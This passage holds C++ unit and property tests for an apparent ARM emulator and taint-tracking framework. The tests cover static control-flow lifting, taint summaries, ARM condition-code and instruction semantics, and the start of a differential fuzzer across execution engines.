  // The conditional loop exit has both the target and the fall-through.
  const sa::BasicBlock* cond = fn->block_at(entry + 8);  // cmp;beq block
  ASSERT_NE(cond, nullptr);
  EXPECT_EQ(cond->succs.size(), 2u);
  // The call edge was recorded and transitively lifted as sub_<hex>.
  ASSERT_EQ(fn->callees.size(), 1u);
  EXPECT_EQ(fn->callees[0] & ~1u, helper);
  const sa::FunctionCfg* callee = prog.function(helper);
  ASSERT_NE(callee, nullptr);
  EXPECT_EQ(callee->name.rfind("sub_", 0), 0u);
  bool callee_returns = false;
  for (const auto& [start, bb] : callee->blocks) {
    callee_returns = callee_returns || bb.is_return;
  }
  EXPECT_TRUE(callee_returns);
}

TEST_F(LifterFixture, ItConditionalBranchSuccessorsMatchExecutor) {
  // The satellite-3 agreement check: the same IT'd unconditional-encoding
  // branch that test_it_blocks runs dynamically must lift as a *conditional*
  // edge — both the target and the fall-through are successors.
  ThumbAssembler a(kCode);
  ThumbLabel nonzero;
  a.cmp_imm(R(0), 0);
  a.it(Cond::kNE);
  a.b(nonzero);          // conditional via ITSTATE, not via encoding
  a.movs_imm(R(0), 42);  // fall-through (r0 == 0)
  a.bx(LR);
  a.bind(nonzero);
  a.movs_imm(R(0), 77);
  a.bx(LR);
  const auto image = a.finish();
  const sa::Program prog = lift(image, {{kCode | 1u, "it_branch"}});

  const sa::FunctionCfg* fn = prog.function(kCode);
  ASSERT_NE(fn, nullptr);
  EXPECT_TRUE(fn->thumb);
  // Block layout: [cmp, it, b] then [movs, bx] and [movs, bx]. The IT'd
  // branch must contribute both the target and the fall-through.
  const sa::BasicBlock* head = fn->block_at(kCode);
  ASSERT_NE(head, nullptr);
  ASSERT_EQ(head->succs.size(), 2u) << "IT'd branch must be two-way";
  EXPECT_NE(head->succs[0], head->succs[1]);
  EXPECT_TRUE(head->succs[0] == head->end || head->succs[1] == head->end)
      << "fall-through successor missing";

  // Dynamic agreement: run both paths, every taken-branch edge out of the
  // head block must be one of the static successors (or a return).
  std::vector<std::pair<GuestAddr, GuestAddr>> edges;
  const int id = cpu_.add_branch_hook(
      [&edges](arm::Cpu&, GuestAddr from, GuestAddr to) {
        edges.emplace_back(from, to);
      });
  EXPECT_EQ(cpu_.call_function(kCode | 1, {0}), 42u);
  EXPECT_EQ(cpu_.call_function(kCode | 1, {5}), 77u);
  cpu_.remove_branch_hook(id);
  bool saw_it_branch = false;
  for (const auto& [from, to] : edges) {
    const sa::BasicBlock* bb = fn->block_at(from);
    if (bb == nullptr) continue;
    if (bb == head) {
      saw_it_branch = true;
      EXPECT_TRUE(std::find(bb->succs.begin(), bb->succs.end(), to & ~1u) !=
                  bb->succs.end())
          << "dynamic edge 0x" << std::hex << from << " -> 0x" << to
          << " missing from static successors";
    } else {
      EXPECT_TRUE(bb->is_return);
    }
  }
  EXPECT_TRUE(saw_it_branch);
}

TEST_F(LifterFixture, MemAccessClassification) {
  const GuestAddr data = kCode + 0x3000;
  Assembler a(kCode);
  const GuestAddr entry = a.here();
  a.mov_imm32(R(3), data);
  a.str(R(0), R(3), 0);       // constant address
  a.str(R(1), SP, -8);        // stack slot
  a.ldr(R(2), R(1), 0);       // pointer argument: unknown
  a.ret();
  const sa::Program prog = lift(a.finish(), {{entry, "mixed"}});
  const sa::FunctionCfg* fn = prog.function(entry);
  ASSERT_NE(fn, nullptr);
  ASSERT_EQ(fn->mem_accesses.size(), 3u);
  bool saw_const = false, saw_sp = false, saw_unknown = false;
  for (const sa::MemAccess& m : fn->mem_accesses) {
    switch (m.kind) {
      case sa::MemAccess::Kind::kConstAddr:
        saw_const = true;
        EXPECT_EQ(m.addr, data);
        EXPECT_EQ(m.size, 4u);
        EXPECT_TRUE(m.is_store);
        break;
      case sa::MemAccess::Kind::kSpRelative:
        saw_sp = true;
        break;
      case sa::MemAccess::Kind::kUnknown:
        saw_unknown = true;
        EXPECT_FALSE(m.is_store);
        break;
    }
  }
  EXPECT_TRUE(saw_const && saw_sp && saw_unknown);

  // One unknown access makes the whole summary opaque — never skippable.
  const sa::SummaryIndex index = sa::summarize(prog);
  const sa::TaintSummary* s = index.find(entry);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->mem_kind, sa::MemKind::kOpaque);
  EXPECT_TRUE(s->opaque());
}

TEST_F(LifterFixture, SummaryArgFlowAndTransparency) {
  Assembler a(kCode);
  // transparent: int f(...) { return 42; }
  const GuestAddr f_const = a.here();
  a.mov_imm(R(0), 42);
  a.ret();
  // flows: stores arg1 to a constant window, returns arg2.
  const GuestAddr data = kCode + 0x3000;
  const GuestAddr f_flow = a.here();
  a.mov_imm32(R(3), data);
  a.str(R(1), R(3), 0);
  a.mov(R(0), R(2));
  a.ret();
  const sa::Program prog =
      lift(a.finish(), {{f_const, "f_const"}, {f_flow, "f_flow"}});
  const sa::SummaryIndex index = sa::summarize(prog);

  const sa::TaintSummary* c = index.find(f_const);
  ASSERT_NE(c, nullptr);
  EXPECT_TRUE(c->transparent);
  EXPECT_EQ(c->mem_kind, sa::MemKind::kNone);
  EXPECT_EQ(c->args_to_ret, 0u);
  EXPECT_EQ(c->touched_regs, 1u);  // only r0

  const sa::TaintSummary* f = index.find(f_flow);
  ASSERT_NE(f, nullptr);
  EXPECT_FALSE(f->transparent);
  EXPECT_EQ(f->mem_kind, sa::MemKind::kStatic);
  EXPECT_EQ(f->args_to_ret, 1u << 2);  // r2 -> return
  EXPECT_EQ(f->args_to_mem, 1u << 1);  // r1 -> memory
  ASSERT_EQ(f->windows.size(), 1u);
  EXPECT_EQ(f->windows[0].lo, data);
  EXPECT_EQ(f->windows[0].hi, data + 4);
}

TEST_F(LifterFixture, IndirectCallAndIndirectJumpFlagsAreIndependent) {
  // The two flags mark different gaps: has_indirect_call is a missing call
  // *target* with a complete successor set; has_indirect_jump is a
  // truncated successor set. Neither may imply the other.
  Assembler a(kCode);
  // blx through an argument register: unresolvable target, but the block
  // still falls through — successors stay complete.
  const GuestAddr call_fn = a.here();
  a.push({R(4), LR});
  a.blx(R(1));
  a.pop({R(4), arm::PC});
  // bx through an argument register (not LR): truncated successors, but
  // there is no call site at all.
  const GuestAddr jump_fn = a.here();
  a.bx(R(1));
  const sa::Program prog =
      lift(a.finish(), {{call_fn, "call_fn"}, {jump_fn, "jump_fn"}});

  const sa::FunctionCfg* cf = prog.function(call_fn);
  ASSERT_NE(cf, nullptr);
  EXPECT_TRUE(cf->has_indirect_calls);
  EXPECT_FALSE(cf->has_indirect_jumps);
  EXPECT_EQ(cf->unresolved_indirect_calls, 1u);
  EXPECT_EQ(cf->unresolved_indirect_branches, 0u);
  const sa::BasicBlock* call_bb = cf->block_at(call_fn + 4);
  ASSERT_NE(call_bb, nullptr);
  EXPECT_TRUE(call_bb->has_indirect_call);
  EXPECT_FALSE(call_bb->has_indirect_jump);
  ASSERT_EQ(call_bb->call_targets.size(), 1u);
  EXPECT_EQ(call_bb->call_targets[0], sa::kUnresolvedCallTarget);
  // Calls don't truncate the walk: the block runs on past the site to its
  // real terminator (here the POP{pc} return) with successors complete.
  EXPECT_TRUE(call_bb->is_return);
  bool call_reason = false;
  for (const sa::DegradeSite& s : cf->degrade_sites) {
    call_reason =
        call_reason || s.reason == sa::DegradeReason::kUnresolvedCall;
  }
  EXPECT_TRUE(call_reason);

  const sa::FunctionCfg* jf = prog.function(jump_fn);
  ASSERT_NE(jf, nullptr);
  EXPECT_TRUE(jf->has_indirect_jumps);
  EXPECT_FALSE(jf->has_indirect_calls);
  EXPECT_EQ(jf->unresolved_indirect_branches, 1u);
  EXPECT_EQ(jf->unresolved_indirect_calls, 0u);
  const sa::BasicBlock* jump_bb = jf->block_at(jump_fn);
  ASSERT_NE(jump_bb, nullptr);
  EXPECT_TRUE(jump_bb->has_indirect_jump);
  EXPECT_FALSE(jump_bb->has_indirect_call);
  EXPECT_TRUE(jump_bb->call_targets.empty());
  bool jump_reason = false;
  for (const sa::DegradeSite& s : jf->degrade_sites) {
    jump_reason =
        jump_reason || s.reason == sa::DegradeReason::kUnresolvedJump;
  }
  EXPECT_TRUE(jump_reason);
}

TEST_F(LifterFixture, ResolvedTableIsSupersetOfDynamicTargets) {
  // ⊇-property of the over-approximating resolution: the bounds check
  // admits indices 0..3, so the lifter must enumerate all four table
  // targets even though this run only ever exercises two of them.
  const GuestAddr table = kCode + 0x200;
  Assembler a(kCode);
  Label dflt;
  const GuestAddr entry = a.here();
  a.cmp_imm(R(0), 3);
  a.b(dflt, Cond::kHI);
  a.mov_imm32(R(3), table);
  a.lsl(R(1), R(0), 2);
  const GuestAddr dispatch_pc = a.here();
  a.ldr_reg(R(15), R(3), R(1));
  std::vector<GuestAddr> cases;
  for (const u8 marker : {10, 20, 30, 40}) {
    cases.push_back(a.here());
    a.mov_imm(R(0), marker);
    a.ret();
  }
  a.bind(dflt);
  a.mov_imm(R(0), 99);
  a.ret();
  while (a.here() < table) a.word(0);
  for (const GuestAddr c : cases) a.word(c);
  const sa::Program prog = lift(a.finish(), {{entry, "dispatch"}});

  const sa::FunctionCfg* fn = prog.function(entry);
  ASSERT_NE(fn, nullptr);
  const sa::BasicBlock* dispatch = fn->block_at(dispatch_pc);
  ASSERT_NE(dispatch, nullptr);
  EXPECT_FALSE(dispatch->has_indirect_jump);
  ASSERT_EQ(dispatch->succs.size(), 4u);

  // Indices 1 and 3 only (0 would fall through to the adjacent case block
  // without a branch event).
  std::vector<GuestAddr> taken;
  const int id = cpu_.add_branch_hook(
      [&](arm::Cpu&, GuestAddr from, GuestAddr to) {
        if (fn->block_at(from) == dispatch) taken.push_back(to & ~1u);
      });
  EXPECT_EQ(cpu_.call_function(entry, {1}), 20u);
  EXPECT_EQ(cpu_.call_function(entry, {3}), 40u);
  cpu_.remove_branch_hook(id);

  ASSERT_EQ(taken.size(), 2u);
  for (const GuestAddr t : taken) {
    EXPECT_TRUE(std::find(dispatch->succs.begin(), dispatch->succs.end(),
                          t) != dispatch->succs.end());
  }
  // Strict superset here: two dynamic targets, four static ones.
  EXPECT_LT(taken.size(), dispatch->succs.size());
}

TEST_F(LifterFixture, PrecisionReportAggregatesVerdictsAndReasons) {
  Assembler a(kCode);
  const GuestAddr f_const = a.here();  // transparent
  a.mov_imm(R(0), 42);
  a.ret();
  const GuestAddr f_unknown = a.here();  // opaque: pointer-arg load
  a.ldr(R(0), R(1), 0);
  a.ret();
  const GuestAddr f_jump = a.here();  // truncated successors
  a.bx(R(1));
  const sa::Program prog = lift(
      a.finish(),
      {{f_const, "f_const"}, {f_unknown, "f_unknown"}, {f_jump, "f_jump"}});
  const sa::SummaryIndex index = sa::summarize(prog);

  const sa::PrecisionReport r = sa::precision_report(prog, index);
  EXPECT_EQ(r.functions, 3u);
  EXPECT_EQ(r.transparent, 1u);
  EXPECT_GE(r.opaque_summaries, 1u);
  // The truncated-successors function is never skippable either: the
  // summarizer folds it into worst-case arg facts + unresolved calls.
  const sa::TaintSummary* sj = index.find(f_jump);
  ASSERT_NE(sj, nullptr);
  EXPECT_TRUE(sj->unresolved_calls);
  EXPECT_FALSE(sj->transparent);
  EXPECT_GE(r.degraded, 2u);
  EXPECT_EQ(r.unresolved_indirect_branches, 1u);
  EXPECT_GE(r.reason_counts[static_cast<std::size_t>(
                sa::DegradeReason::kUnknownMemAccess)],
            1u);
  EXPECT_EQ(r.reason_counts[static_cast<std::size_t>(
                sa::DegradeReason::kUnresolvedJump)],
            1u);

  // The budget-gate counters survive aggregation.
  sa::PrecisionReport total = r;
  total.accumulate(r);
  EXPECT_EQ(total.functions, 6u);
  EXPECT_EQ(total.unresolved_indirect_branches, 2u);

  // Every non-transparent function gets a reason chain in the audit.
  const std::string text = sa::explain(prog, index);
  EXPECT_NE(text.find("f_const"), std::string::npos);
  EXPECT_NE(text.find("transparent"), std::string::npos);
  EXPECT_NE(text.find("unknown_mem_access"), std::string::npos);
  EXPECT_NE(text.find("unresolved_jump"), std::string::npos);

  // And the JSON carries both the per-function chain and the aggregate.
  const std::string json = sa::to_json(prog, index);
  EXPECT_NE(json.find("\"precision\""), std::string::npos);
  EXPECT_NE(json.find("\"degrade\""), std::string::npos);
  EXPECT_NE(json.find("\"opaque_summaries\""), std::string::npos);
}

// ---------------------------------------------------------------------------
// Property: dynamic branch events ⊆ static CFG edges (src/apps programs)
// ---------------------------------------------------------------------------

/// Mirrors NDroid::attach_static_analysis's discovery on a Device.
sa::Program scan(android::Device& device) {
  using android::Layout;
  os::ViewReconstructor vmi(device.memory, os::Kernel::kTaskRoot);
  const auto views = vmi.reconstruct();
  std::vector<sa::CodeRegion> regions;
  for (const auto& proc : views) {
    if (proc.pid != device.app_pid()) continue;
    for (const auto& r : proc.regions) {
      if (r.start >= Layout::kAppLibBase && r.start < Layout::kHeapBase) {
        regions.push_back({r.start, r.end, r.name});
      }
    }
  }
  std::vector<sa::FunctionEntry> entries;
  for (const dvm::Method* m : device.dvm.native_methods()) {
    const GuestAddr stripped = m->native_addr & ~1u;
    if (stripped >= Layout::kAppLibBase && stripped < Layout::kHeapBase) {
      entries.push_back({m->native_addr, m->name});
    }
  }
  const sa::CfgLifter lifter(device.memory, std::move(regions));
  return lifter.lift(entries);
}

struct EdgeChecker {
  const sa::Program& prog;
  u64 verified = 0;
  std::vector<std::string> violations;

  static bool explains(const sa::BasicBlock& bb, GuestAddr to) {
    if (bb.is_return || bb.has_indirect_jump || bb.has_indirect_call) {
      return true;
    }
    const GuestAddr t = to & ~1u;
    for (const GuestAddr s : bb.succs) {
      if (s == t) return true;
    }
    for (const GuestAddr c : bb.call_targets) {
      if ((c & ~1u) == t) return true;
    }
    return false;
  }

  void check(GuestAddr from, GuestAddr to) {
    bool contained = false;
    for (const auto& [entry, fn] : prog.functions) {
      if (!fn.contains(from)) continue;
      const sa::BasicBlock* bb = fn.block_at(from);
      if (bb == nullptr) continue;
      contained = true;
      if (explains(*bb, to)) {
        ++verified;
        return;
      }
    }
    if (contained) {
      char buf[96];
      std::snprintf(buf, sizeof buf,
                    "edge 0x%x -> 0x%x not covered by static CFG", from, to);
      violations.emplace_back(buf);
    }
  }
};

TEST(StaticCfgProperty, CfbenchDynamicEdgesCovered) {
  android::Device device;
  apps::CfBenchApp app(device);
  const sa::Program prog = scan(device);
  EXPECT_GE(prog.functions.size(), 8u);

  EdgeChecker checker{prog};
  const int id = device.cpu.add_branch_hook(
      [&checker](arm::Cpu&, GuestAddr from, GuestAddr to) {
        checker.check(from, to);
      });
  for (const auto& w : app.workloads()) {
    if (!w.java) app.run(w, 40);
  }
  device.cpu.remove_branch_hook(id);

  EXPECT_GT(checker.verified, 0u);
  EXPECT_TRUE(checker.violations.empty())
      << checker.violations.size() << " violations, first: "
      << checker.violations.front();
}

TEST(StaticCfgProperty, LeakCaseDynamicEdgesCovered) {
  for (const auto& [name, builder] : apps::all_cases()) {
    android::Device device;
    const auto scenario = builder(device);
    const sa::Program prog = scan(device);
    EXPECT_GE(prog.functions.size(), 1u) << name;

    EdgeChecker checker{prog};
    const int id = device.cpu.add_branch_hook(
        [&checker](arm::Cpu&, GuestAddr from, GuestAddr to) {
          checker.check(from, to);
        });
    device.dvm.call(*scenario.entry, {});
    device.cpu.remove_branch_hook(id);

    EXPECT_GT(checker.verified, 0u) << name;
    EXPECT_TRUE(checker.violations.empty())
        << name << ": " << checker.violations.size()
        << " violations, first: " << checker.violations.front();
  }
}

}  // namespace
}  // namespace ndroid
