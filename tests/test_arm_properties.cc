// Parameterized sweeps over the ARM substrate: condition codes, shifter
// operand forms, constant synthesis, assembler<->decoder agreement on
// randomized instruction streams, and the cross-engine differential fuzzer
// (seeded random ARM/Thumb programs diffed across execution tiers).
#include <gtest/gtest.h>

#include <deque>
#include <memory>
#include <random>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "arm/thumb_assembler.h"
#include "core/instruction_tracer.h"
#include "farm/farm.h"
#include "farm/providers.h"

#if defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define NDROID_NO_FORK_TESTS 1
#endif
#endif
#if !defined(NDROID_NO_FORK_TESTS) && defined(__SANITIZE_THREAD__)
#define NDROID_NO_FORK_TESTS 1
#endif

namespace ndroid::arm {
namespace {

class CpuHarness {
 public:
  static constexpr GuestAddr kCode = 0x10000;

  CpuHarness() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x8000, mem::kRX);
    map_.add("data", 0x20000, 0x8000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

// --- All condition codes against a reference evaluator ---------------------

class ConditionSweep : public ::testing::TestWithParam<int> {};

TEST_P(ConditionSweep, MatchesReferenceSemantics) {
  const Cond cond = static_cast<Cond>(GetParam());
  // For a battery of (a, b) pairs: cmp a, b; mov<cond> r0, #1.
  const std::pair<u32, u32> pairs[] = {
      {0, 0},          {1, 0},   {0, 1},
      {0xFFFFFFFF, 1}, {1, 0xFFFFFFFF},
      {0x80000000, 1}, {1, 0x80000000},
      {0x7FFFFFFF, 0xFFFFFFFF},  // overflow territory
      {42, 42},
  };
  for (const auto& [x, y] : pairs) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm(R(0), 0);
    a.cmp(R(1), R(2));
    a.mov_imm(R(0), 1, cond);
    a.ret();
    const u32 got = h.run(a, {0, x, y});

    // Reference: evaluate the condition from first principles.
    const u32 diff = x - y;
    const bool n = (diff >> 31) != 0;
    const bool z = diff == 0;
    const bool c = x >= y;  // no borrow
    const bool v = (((x ^ y) & (x ^ diff)) >> 31) != 0;
    bool expect = false;
    switch (cond) {
      case Cond::kEQ: expect = z; break;
      case Cond::kNE: expect = !z; break;
      case Cond::kCS: expect = c; break;
      case Cond::kCC: expect = !c; break;
      case Cond::kMI: expect = n; break;
      case Cond::kPL: expect = !n; break;
      case Cond::kVS: expect = v; break;
      case Cond::kVC: expect = !v; break;
      case Cond::kHI: expect = c && !z; break;
      case Cond::kLS: expect = !c || z; break;
      case Cond::kGE: expect = n == v; break;
      case Cond::kLT: expect = n != v; break;
      case Cond::kGT: expect = !z && n == v; break;
      case Cond::kLE: expect = z || n != v; break;
      case Cond::kAL: expect = true; break;
    }
    EXPECT_EQ(got, expect ? 1u : 0u)
        << "cond " << to_string(cond) << " x=" << x << " y=" << y;
  }
}

INSTANTIATE_TEST_SUITE_P(AllConds, ConditionSweep, ::testing::Range(0, 15));

// --- mov_imm32 synthesises any constant -------------------------------------

class Imm32Sweep : public ::testing::TestWithParam<u32> {};

TEST_P(Imm32Sweep, RoundTrips) {
  std::mt19937 rng(GetParam());
  for (int i = 0; i < 40; ++i) {
    const u32 value = static_cast<u32>(rng());
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm32(R(0), value);
    a.ret();
    EXPECT_EQ(h.run(a), value);
  }
  // Plus the classic edge constants.
  for (u32 value : {0u, 1u, 0xFFu, 0x100u, 0xFFFFu, 0x10000u, 0xFFFFFFFFu,
                    0x80000000u, 0x12345678u, 0xFF00FF00u}) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm32(R(0), value);
    a.ret();
    EXPECT_EQ(h.run(a), value);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, Imm32Sweep, ::testing::Range(1u, 5u));

// --- Shifter operand semantics via the thumb shift-by-imm path --------------

TEST(Shifter, Lsr32ViaImmEncoding) {
  // LSR #32 (encoded as amount 0) must yield 0 and carry = bit31.
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.lsr(R(0), R(0), 32);
  a.ret();
  EXPECT_EQ(h.run(a, {0xFFFFFFFF}), 0u);
}

TEST(Shifter, AsrPropagatesSign) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.asr(R(0), R(0), 32);
  a.ret();
  EXPECT_EQ(h.run(a, {0x80000000}), 0xFFFFFFFFu);
  CpuHarness h2;
  Assembler b(CpuHarness::kCode);
  b.asr(R(0), R(0), 32);
  b.ret();
  EXPECT_EQ(h2.run(b, {0x7FFFFFFF}), 0u);
}

// --- Randomized assemble->decode->execute consistency ------------------------

class RandomProgram : public ::testing::TestWithParam<u32> {};

TEST_P(RandomProgram, MatchesHostReferenceModel) {
  std::mt19937 rng(GetParam() * 2654435761u);

  // Random arithmetic over r0-r3 (the argument registers), checked against
  // a host-side reference model instruction by instruction.
  std::array<u32, 4> regs{};
  for (auto& r : regs) r = rng();
  std::array<u32, 4> ref = regs;

  Assembler a(CpuHarness::kCode);
  const u32 steps = 8 + rng() % 24;
  for (u32 i = 0; i < steps; ++i) {
    const u8 rd = static_cast<u8>(rng() % 4);
    const u8 rn = static_cast<u8>(rng() % 4);
    const u8 rm = static_cast<u8>(rng() % 4);
    switch (rng() % 7) {
      case 0: a.add(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] + ref[rm]; break;
      case 1: a.sub(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] - ref[rm]; break;
      case 2: a.eor(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] ^ ref[rm]; break;
      case 3: a.and_(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] & ref[rm]; break;
      case 4: a.orr(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] | ref[rm]; break;
      case 5: a.mul(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] * ref[rm]; break;
      case 6: {
        const u8 amount = static_cast<u8>(1 + rng() % 31);
        a.lsl(R(rd), R(rm), amount);
        ref[rd] = ref[rm] << amount;
        break;
      }
    }
  }
  // Fold all registers into r0 so every value is observable.
  for (u8 r = 1; r < 4; ++r) a.eor(R(0), R(0), R(r));
  a.ret();

  u32 expect = ref[0];
  for (u32 r = 1; r < 4; ++r) expect ^= ref[r];

  CpuHarness h;
  EXPECT_EQ(h.run(a, {regs[0], regs[1], regs[2], regs[3]}), expect)
      << "seed " << GetParam();
}

INSTANTIATE_TEST_SUITE_P(Seeds, RandomProgram, ::testing::Range(1u, 9u));

// --- LDM/STM corner cases ----------------------------------------------------

TEST(BlockTransfer, StmIaThenLdmIaRoundTrip) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mov_imm32(R(4), 0x20000);
  a.mov_imm(R(1), 11);
  a.mov_imm(R(2), 22);
  a.mov_imm(R(3), 33);
  a.stm_ia(R(4), (1u << 1) | (1u << 2) | (1u << 3), /*writeback=*/false);
  a.mov_imm(R(1), 0);
  a.mov_imm(R(2), 0);
  a.mov_imm(R(3), 0);
  a.ldm_ia(R(4), (1u << 1) | (1u << 2) | (1u << 3), /*writeback=*/false);
  a.add(R(0), R(1), R(2));
  a.add(R(0), R(0), R(3));
  a.ret();
  EXPECT_EQ(h.run(a), 66u);
  EXPECT_EQ(h.mem_.read32(0x20000), 11u);
  EXPECT_EQ(h.mem_.read32(0x20008), 33u);
}

TEST(BlockTransfer, WritebackAdjustsBase) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mov_imm32(R(4), 0x20000);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 2);
  a.stm_ia(R(4), (1u << 1) | (1u << 2), /*writeback=*/true);
  a.mov(R(0), R(4));
  a.ret();
  EXPECT_EQ(h.run(a), 0x20008u);
}

TEST(Multiply, MlaAccumulates) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mla(R(0), R(1), R(2), R(3));  // r0 = r1*r2 + r3
  a.ret();
  EXPECT_EQ(h.run(a, {0, 6, 7, 100}), 142u);
}

TEST(Extend, ArmModeExtendInstructions) {
  struct Case {
    void (Assembler::*emit)(Reg, Reg);
    u32 input;
    u32 expect;
  };
  const Case cases[] = {
      {&Assembler::sxtb, 0x80, 0xFFFFFF80},
      {&Assembler::sxtb, 0x7F, 0x7F},
      {&Assembler::sxth, 0x8000, 0xFFFF8000},
      {&Assembler::uxtb, 0xABCD, 0xCD},
      {&Assembler::uxth, 0xABCD1234, 0x1234},
  };
  for (const Case& c : cases) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    (a.*c.emit)(R(0), R(0));
    a.ret();
    EXPECT_EQ(h.run(a, {c.input}), c.expect);
  }
  // CLZ of 0 is 32 (unary class companion).
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.clz(R(0), R(0));
  a.ret();
  EXPECT_EQ(h.run(a, {0}), 32u);
}

// --- Cross-engine differential fuzzing ---------------------------------------
//
// Seeded random ARM programs (a bounded loop of ALU / memory / conditional
// instructions that calls a random Thumb leaf) are executed under every
// engine configuration — interpreter, TB cache, TB + software TLB, the
// threaded micro-op tier (generic and fused taint emission), and the
// template JIT (clean host streams, and the taint-fused traced host
// streams with the full TaintJitView wired) — with taint tracking off and
// on. Final r0, a digest of guest memory, the tracer's
// instruction count, and a digest of the full shadow state (register taints
// plus the data-region taint map, the inputs every leak report is computed
// from) must agree bit-for-bit with the interpreter baseline. Leak *events*
// themselves are diffed separately by the golden-log quadruple test.

constexpr GuestAddr kFuzzCode = 0x10000;
constexpr GuestAddr kFuzzThumb = 0x14000;
constexpr GuestAddr kFuzzData = 0x20000;

struct FuzzProgram {
  std::vector<u8> arm_code;    // entry at kFuzzCode
  std::vector<u8> thumb_code;  // leaf at kFuzzThumb (Thumb state)
};

/// Registers the random body may use freely. r4 (data base) and r5 (loop
/// counter) are off-limits so the loop always terminates; r6 is only ever a
/// freshly re-derived scratch pointer for indexed addressing modes.
constexpr u8 kBodyRegs[] = {0, 1, 2, 3, 7};

FuzzProgram generate_program(u32 seed) {
  std::mt19937 rng(seed * 2654435761u + 0x9E3779B9u);
  const auto reg = [&] { return R(kBodyRegs[rng() % std::size(kBodyRegs)]); };

  // Thumb leaf: low-register ALU plus word loads/stores through r4.
  ThumbAssembler t(kFuzzThumb);
  const u32 thumb_steps = 4 + rng() % 10;
  for (u32 i = 0; i < thumb_steps; ++i) {
    const Reg rd = R(static_cast<u8>(rng() % 4));
    const Reg rm = R(static_cast<u8>(rng() % 4));
    switch (rng() % 9) {
      case 0: t.adds(rd, rd, rm); break;
      case 1: t.subs(rd, rd, rm); break;
      case 2: t.eors(rd, rm); break;
      case 3: t.ands(rd, rm); break;
      case 4: t.muls(rd, rm); break;
      case 5: t.lsls(rd, rm, static_cast<u8>(1 + rng() % 7)); break;
      case 6: t.uxth(rd, rm); break;
      case 7: t.str(rd, R(4), static_cast<u8>(4 * (rng() % 16))); break;
      case 8: t.ldr(rd, R(4), static_cast<u8>(4 * (rng() % 16))); break;
    }
  }
  t.bx(LR);

  // ARM main: bounded loop over a random body.
  Assembler a(kFuzzCode);
  std::deque<Label> labels;  // deque: binding must not move pending labels
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov_imm32(R(4), kFuzzData);
  a.mov_imm(R(5), 2 + rng() % 4);
  a.mov_imm(R(7), rng() % 256);
  Label loop;
  a.bind(loop);
  const u32 steps = 8 + rng() % 16;
  for (u32 i = 0; i < steps; ++i) {
    const Reg rd = reg(), rn = reg(), rm = reg();
    switch (rng() % 18) {
      case 0: a.add(rd, rn, rm); break;
      case 1: a.sub(rd, rn, rm); break;
      case 2: a.eor(rd, rn, rm); break;
      case 3: a.orr(rd, rn, rm); break;
      case 4: a.mul(rd, rn, rm); break;
      case 5: a.add_imm(rd, rn, rng() % 256); break;
      case 6: a.sub_imm(rd, rn, rng() % 256); break;
      case 7: a.eor_imm(rd, rn, rng() % 256); break;
      case 8: a.mov_imm(rd, rng() % 256); break;
      case 9: a.sxtb(rd, rm); break;
      case 10: a.uxth(rd, rm); break;
      case 11: a.str(rd, R(4), static_cast<i32>(4 * (rng() % 32))); break;
      case 12: a.ldr(rd, R(4), static_cast<i32>(4 * (rng() % 32))); break;
      case 13: a.strb(rd, R(4), static_cast<i32>(rng() % 128)); break;
      case 14: a.ldrsh(rd, R(4), static_cast<i32>(2 * (rng() % 32))); break;
      case 15:  // post-indexed store through a scratch pointer
        a.mov(R(6), R(4));
        a.str_post(rd, R(6), 4);
        break;
      case 16: {  // conditional forward skip over a short run
        Label& skip = labels.emplace_back();
        a.cmp(rn, rm);
        a.b(skip, static_cast<Cond>(rng() % 14));
        const u32 inner = 1 + rng() % 3;
        for (u32 j = 0; j < inner; ++j) a.add_imm(reg(), reg(), rng() % 256);
        a.bind(skip);
        break;
      }
      case 17: a.call(kFuzzThumb | 1); break;  // interwork into the leaf
    }
  }
  a.sub_imm(R(5), R(5), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  // Spill every observable register so the memory digest captures them.
  const u8 spill[] = {0, 1, 2, 3, 6, 7};
  for (u32 i = 0; i < std::size(spill); ++i) {
    a.str(R(spill[i]), R(4), static_cast<i32>(0x400 + 4 * i));
  }
  for (u8 r : {1, 2, 3, 7}) a.eor(R(0), R(0), R(r));
  a.pop({R(4), R(5), R(6), R(7), LR});
  a.ret();

  FuzzProgram prog;
  prog.arm_code = a.finish();
  prog.thumb_code = t.finish();
  return prog;
}

enum class FuzzEngine {
  kInterp,
  kTb,
  kTbTlb,
  kThreaded,
  kThreadedFused,
  kJit,  // host-code emission; threaded with fusion on non-x86-64 hosts
  /// Host-code emission with the taint-fused traced stream engaged: gated
  /// hook + always-firing block gate + TaintJitView, so gate-fired blocks
  /// run inlined Table V transfers over the raw label file instead of the
  /// threaded trace loop. Degrades to kThreadedFused without host emission.
  kJitTraced,
};

struct FuzzResult {
  u32 r0 = 0;
  u64 mem_digest = 0;
  u64 traced = 0;
  u64 shadow_digest = 0;
  u64 jit_traced_blocks = 0;  // dispatches that ran taint-fused host code
};

u64 fnv1a(u64 h, u64 v) {
